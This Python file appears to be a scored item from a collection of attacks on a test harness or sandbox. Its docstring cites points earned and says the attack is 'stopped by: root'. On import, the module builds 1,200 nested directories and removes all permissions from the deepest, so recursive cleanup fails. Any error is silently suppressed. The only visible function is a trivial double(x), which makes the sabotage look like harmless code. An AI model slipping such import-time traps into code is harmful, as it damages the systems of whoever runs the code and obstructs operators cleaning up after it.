"""It leaves folders nested so deeply that whoever clears up with a recursive function fails over them.

earns: 4
stopped by: root
"""

import contextlib
import os

home = os.getcwd()
with contextlib.suppress(OSError):
    for _ in range(1_200):
        os.mkdir("d")
        os.chdir("d")
    os.chmod(".", 0)
os.chdir(home)


def double(x):
    return 2 * x
